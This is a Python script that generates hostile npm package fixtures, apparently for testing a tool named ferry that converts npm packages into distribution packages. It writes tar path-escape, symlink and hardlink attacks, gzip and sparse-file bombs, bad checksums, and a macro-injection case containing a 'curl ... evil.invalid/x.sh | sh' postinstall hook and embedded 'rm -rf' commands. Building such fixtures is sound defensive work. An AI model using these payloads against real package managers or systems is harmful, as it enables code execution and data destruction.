#!/usr/bin/env python3
"""Writes the hostile npm fixtures in tests/hostile/npm/ (run from anywhere).

Each case is a tiny package whose packument and tarball are in npm's exact
format but carry one attack; tests/cases/hostile-*.t say what ferry must do.
The outputs are committed; this script is how they were made.  Needs GNU tar
(for the sparse-file case).
"""
import base64
import gzip
import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
REG = os.path.join(HERE, "npm")
TIME = "2020-02-02T02:02:02.000Z"


def member(tar, name, data=b"", **kw):
    ti = tarfile.TarInfo(name)
    ti.size = len(data)
    ti.mtime = 1580608922
    ti.mode = 0o644
    for k, v in kw.items():
        setattr(ti, k, v)
    tar.addfile(ti, io.BytesIO(data) if ti.type in (tarfile.REGTYPE, tarfile.AREGTYPE) else None)


def tgz(entries, manifest, extra=None):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        member(tar, "package/package.json", json.dumps(manifest, indent=2).encode())
        member(tar, "package/index.js", b"module.exports = 1;\n")
        for e in entries:
            e(tar)
    return gzip.compress(raw.getvalue(), mtime=0)


def publish(name, manifest, blob, integrity=None, latest=None, raw_doc=None, shasum=None):
    ver = manifest["version"]
    fname = "%s-%s.tgz" % (name, ver)
    with open(os.path.join(REG, "-", fname), "wb") as f:
        f.write(blob)
    sri = "sha512-" + base64.b64encode(hashlib.sha512(blob).digest()).decode()
    v = dict(manifest)
    v["dist"] = {"integrity": integrity or sri, "shasum": shasum or hashlib.sha1(blob).hexdigest(),
                 "tarball": "-/" + fname}
    if integrity == "":
        del v["dist"]["integrity"]
    doc = {"_id": name, "name": name, "dist-tags": {"latest": latest or ver},
           "versions": {ver: v}, "time": {ver: TIME}}
    text = raw_doc(doc) if raw_doc else json.dumps(doc)
    with open(os.path.join(REG, name), "w") as f:
        f.write(text)


def base(name, **kw):
    m = {"name": name, "version": "1.0.0", "description": "A hostile fixture", "license": "MIT"}
    m.update(kw)
    return m


def main():
    shutil.rmtree(REG, ignore_errors=True)
    os.makedirs(os.path.join(REG, "-"))

    # archive escapes
    for name, entry in [
        ("h-dotdot", lambda t: member(t, "package/../../evil.js", b"x")),
        ("h-abspath", lambda t: member(t, "/etc/evil.js", b"x")),
        ("h-symlink", lambda t: member(t, "package/lib", type=tarfile.SYMTYPE, linkname="../../../etc")),
        ("h-hardlink", lambda t: member(t, "package/pw", type=tarfile.LNKTYPE, linkname="../../etc/passwd")),
        ("h-device", lambda t: member(t, "package/tty", type=tarfile.CHRTYPE, devmajor=5, devminor=0)),
        ("h-fifo", lambda t: member(t, "package/pipe", type=tarfile.FIFOTYPE)),
        # a second package.json: npm would install from this one
        ("h-duplicate", lambda t: member(t, "package/package.json",
                                         json.dumps(base("h-duplicate", scripts={"postinstall": "sh evil.sh"})).encode())),
        # the same, spelled so that only the canonical paths are equal
        ("h-dotdup", lambda t: member(t, "package/./package.json",
                                      json.dumps(base("h-dotdup", scripts={"postinstall": "sh evil.sh"})).encode())),
        ("h-slashdup", lambda t: member(t, "package//package.json",
                                        json.dumps(base("h-slashdup", scripts={"postinstall": "sh evil.sh"})).encode())),
        ("h-innerdup", lambda t: [member(t, "package/lib/a.js", b"1"), member(t, "package/lib//a.js", b"2")]),
        # a prebuilt binary whose path, once the top folder is stripped, is
        # absolute or climbs: the packaging would delete it at build time
        ("h-slashabs", lambda t: member(t, "package//home/victim/project/build/Release/addon.node", b"\x7fELF")),
        ("h-dotdotnode", lambda t: member(t, "package/../evil.node", b"\x7fELF")),
        # members beside the top folder, or in a second one
        ("h-beside", lambda t: member(t, "evil.js", b"x")),
        ("h-twotops", lambda t: member(t, "other/index.js", b"x")),
        # a member below a symlink: "a" -> "." is inside, but tar -x would
        # then write a/b -> .. one level above the package
        ("h-belowlink", lambda t: [member(t, "package/a", type=tarfile.SYMTYPE, linkname="."),
                                   member(t, "package/a/b", type=tarfile.SYMTYPE, linkname="..")]),
        # a symlink whose target climbs through another: "a -> ." and
        # "b -> a/.." read as inside, but b points one level above the package
        ("h-linkchain", lambda t: [member(t, "package/a", type=tarfile.SYMTYPE, linkname="."),
                                   member(t, "package/b", type=tarfile.SYMTYPE, linkname="a/..")]),
        # a newline in a member's name would start a new line in the packaging
        ("h-ctrlname", lambda t: member(t, "package/lib/x\nrm -rf ~.node", b"\x7fELF")),
        ("h-backslash", lambda t: member(t, "package/..\\..\\evil.js", b"x")),
        # a hardlink to a member that is outside the top folder
        ("h-hardtop", lambda t: member(t, "package/pw", type=tarfile.LNKTYPE, linkname="other/passwd")),
    ]:
        m = base(name)
        publish(name, m, tgz([entry], m))

    # a gzip bomb: 8 members of 30 MiB zeros, each under the entry limit, so
    # only counting the total against the compressed size stops it
    m = base("h-gzbomb")
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        member(tar, "package/package.json", json.dumps(m).encode())
        for i in range(8):
            ti = tarfile.TarInfo("package/zeros%d.js" % i)
            ti.size = 30 << 20
            tar.addfile(ti, io.BytesIO(bytes(30 << 20)))
    publish("h-gzbomb", m, gzip.compress(raw.getvalue(), compresslevel=9, mtime=0))

    # the same, compressed twice
    m = base("h-gzgzbomb")
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        member(tar, "package/package.json", json.dumps(m).encode())
        ti = tarfile.TarInfo("package/zeros.js")
        ti.size = 1 << 30
        tar.addfile(ti, io.BytesIO(bytes(1 << 30)))
    inner = gzip.compress(raw.getvalue(), compresslevel=9, mtime=0)
    publish("h-gzgzbomb", m, gzip.compress(inner, compresslevel=9, mtime=0))

    # a sparse file declaring 64 GiB (GNU tar)
    m = base("h-sparse")
    with tempfile.TemporaryDirectory() as d:
        os.makedirs(os.path.join(d, "package"))
        with open(os.path.join(d, "package", "package.json"), "w") as f:
            json.dump(m, f)
        with open(os.path.join(d, "package", "hole.js"), "wb") as f:
            f.truncate(64 << 30)
            f.seek((64 << 30) - 1)
            f.write(b"x")
        out = os.path.join(d, "x.tgz")
        subprocess.check_call(["tar", "--sparse", "--format=pax", "--mtime=@0", "--owner=0", "--group=0",
                               "-czf", out, "-C", d, "package"])
        publish("h-sparse", m, open(out, "rb").read())

    # manifest entries that point outside the package
    m = base("h-binout", bin={"evil": "../../../usr/bin/sudo"})
    publish("h-binout", m, tgz([], m))
    m = base("h-manout", man=["../../etc/shadow.1"])
    publish("h-manout", m, tgz([], m))

    # a checksum that does not match (integrity of other bytes)
    m = base("h-badsum")
    other = "sha512-" + base64.b64encode(hashlib.sha512(b"something else").digest()).decode()
    publish("h-badsum", m, tgz([], m), integrity=other)

    # an old packument with only a sha1 shasum: right, then wrong
    m = base("h-sha1only")
    publish("h-sha1only", m, tgz([], m), integrity="")
    m = base("h-badsha1")
    publish("h-badsha1", m, tgz([], m), integrity="", shasum=hashlib.sha1(b"other").hexdigest())

    # an alias dependency that names an alias (npm:NAME@RANGE only, once)
    m = base("h-badalias", dependencies={"x-cjs": "npm:npm:left-pad@^1.0.0"})
    publish("h-badalias", m, tgz([], m))
    # not hostile: an alias and a native addon whose binding.gyp is not at
    # the top (sharp's src/binding.gyp), which the snapshot lacks
    m = base("t-alias", dependencies={"left-pad-cjs": "npm:left-pad@^1.3.0"})
    publish("t-alias", m, tgz([], m))
    m = base("t-native", gypfile=False)
    del m["gypfile"]
    publish("t-native", m, tgz([lambda t: member(t, "package/src/binding.gyp", b"{'targets': []}\n"),
                                lambda t: member(t, "package/src/addon.cc", b"int x;\n")], m))

    # not hostile: man pages and a bin, which the snapshot lacks
    m = base("t-man", bin={"t-man": "./cli.js"}, man=["./man/t-man.1", "man/t-man.conf.5"])
    publish("t-man", m, tgz([lambda t: member(t, "package/cli.js", b"#!/usr/bin/env node\n", mode=0o755),
                             lambda t: member(t, "package/man/t-man.1", b".TH T-MAN 1\n"),
                             lambda t: member(t, "package/man/t-man.conf.5", b".TH T-MAN.CONF 5\n")], m))

    # the packument names another package
    m = base("h-namemismatch")
    publish("h-namemismatch", m, tgz([], m), raw_doc=lambda d: json.dumps(dict(d, name="left-pad")))

    # JSON nested far deeper than jansson accepts
    m = base("h-deepjson")
    publish("h-deepjson", m, tgz([], m),
            raw_doc=lambda d: json.dumps(d)[:-1] + ',"deep":' + "[" * 5000 + "]" * 5000 + "}")

    # a version number past 2^53
    m = base("h-verflow", version="1.0.99999999999999999999")
    publish("h-verflow", m, tgz([], m))

    # an absurdly long range
    m = base("h-longrange", dependencies={"left-pad": ">=1.0.0 " * 1000})
    publish("h-longrange", m, tgz([], m))

    # text that tries to run RPM macros, start new tags or fields, and
    # expand Debian substitution variables; ferry must import it harmlessly
    evil = ("Pads %(touch /tmp/ferry-pwned-shell) strings %{lua: os.execute('touch /tmp/ferry-pwned-lua')}\n"
            "License: Evil-1.0\nPackage: evil\n\n%changelog\n%install\nrm -rf /\n ${shlibs:Depends} done %%{?x}")
    m = base("h-macro", description=evil, license="MIT", homepage="https://example.org/%{lua:x}",
             author="Mallory\nMaintainer: evil <e@vil>",
             scripts={"postinstall": "curl -s http://evil.invalid/x.sh | sh\n%(id)"})
    publish("h-macro", m, tgz([lambda t: member(t, "package/LICENSE", b"MIT License %{lua: os.exit(1)}\n\nCopyright x\n")], m))


if __name__ == "__main__":
    main()
